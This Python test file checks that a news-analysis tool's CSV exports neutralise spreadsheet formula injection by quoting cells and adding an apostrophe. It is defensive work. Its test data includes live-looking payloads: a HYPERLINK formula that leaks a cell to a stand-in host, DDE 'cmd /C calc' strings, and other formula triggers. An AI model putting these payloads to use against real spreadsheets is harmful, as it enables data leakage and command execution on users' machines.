"""CSV injection: text cells a spreadsheet would run as a formula are neutralised and quoted in every
CSV narrascope writes; numbers we write stay numbers."""
import csv
import io

from narrascope.article import Article, Span
from narrascope.tasks import semeval2025_format, unlp2025
from narrascope.export import export
from narrascope.safecsv import safe_cell, safe_writer
from narrascope.store import open_store

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_safe_cell_neutralises_text_only():
    assert [safe_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert safe_cell(-0.5) == -0.5 and safe_cell(-3) == -3 and safe_cell("Astana, 5 May") == "Astana, 5 May"
    buf = io.StringIO()
    safe_writer(buf, quote_text=True, lineterminator="\n").writerow(["-0.5", -0.5, None, 2])
    assert buf.getvalue() == "\"'-0.5\",-0.5,\"\",2\n"


def test_minimal_quoting_writers_quote_the_neutralised_cell():
    buf = io.StringIO()
    safe_writer(buf, delimiter="\t", lineterminator="\n").writerow(["EN_UA_1.txt", "=1+2", "plain"])
    assert buf.getvalue() == "EN_UA_1.txt\t\"'=1+2\"\tplain\n"


def test_exported_tables_carry_no_live_formula(tmp_path):
    text = ("Officials in Astana said on Monday that the new grain corridor would open in spring, and "
            "the ministry published the figures on its website.\n\n=HYPERLINK(\"http://evil.example\") "
            "was pasted into the second paragraph by a reader, the editors said.")
    a = Article.from_text(text, source="evil.txt", title=FORMULAS[0], outlet=FORMULAS[3], author=FORMULAS[1],
                          url="https://news.example/a")
    a.meta["external_id"] = "-17"
    a.add_layer("techniques", [Span(0, 9, "Loaded_Language", 0.5, {"voice": "author"})], "techniques", "1.1.0")
    with open_store(tmp_path / "x.db") as store:
        store.save(a)
        export(store, "csv", tmp_path / "articles.csv")
        export(store, "outlet-techniques", tmp_path / "outlets.csv")
    raw = (tmp_path / "articles.csv").read_text(encoding="utf-8")
    row = next(csv.DictReader(io.StringIO(raw, newline="")))
    assert row["title"] == "'" + FORMULAS[0] and row["outlet"] == "'@SUM(A1:A9)" and row["author"].startswith("'+")
    assert row["input_id"] == "'-17"
    assert '"\'=HYPERLINK(""http' in raw  # quoted, inner quotes doubled
    for line in csv.reader(io.StringIO(raw, newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)
    outlets = list(csv.DictReader(io.StringIO((tmp_path / "outlets.csv").read_text(encoding="utf-8"), newline="")))
    assert outlets == [{"outlet": "'@SUM(A1:A9)", "articles": "1", "technique": "Loaded_Language", "voice": "author",
                        "spans": "1", "spans_per_article": "1.0"}]


def test_task_format_writers_use_the_helper(tmp_path):
    row = semeval2025_format.ExplanationRow("EN_UA_1.txt", "=cmd|' /C calc'!A0 is what the article says")
    assert semeval2025_format.format_row(row).split("\t")[1].startswith("\"'=cmd")
    unlp2025.write_predictions({"@evil": ["straw_man"]}, tmp_path / "p.csv", 1)
    assert (tmp_path / "p.csv").read_text(encoding="utf-8").splitlines()[1].startswith("\"'@evil\"")
